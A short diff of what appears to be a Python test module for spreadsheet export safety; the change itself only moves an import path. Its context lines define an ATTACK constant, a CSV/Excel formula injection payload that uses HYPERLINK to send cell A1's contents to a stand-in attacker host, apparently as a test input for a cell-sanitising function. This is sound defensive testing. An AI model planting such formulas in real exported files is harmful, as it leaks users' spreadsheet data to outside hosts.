@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 
 from ctms.audit import audit
 from ctms.cells import safe_cell
-from reports.exports import writers
+from exports import writers
 
 ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
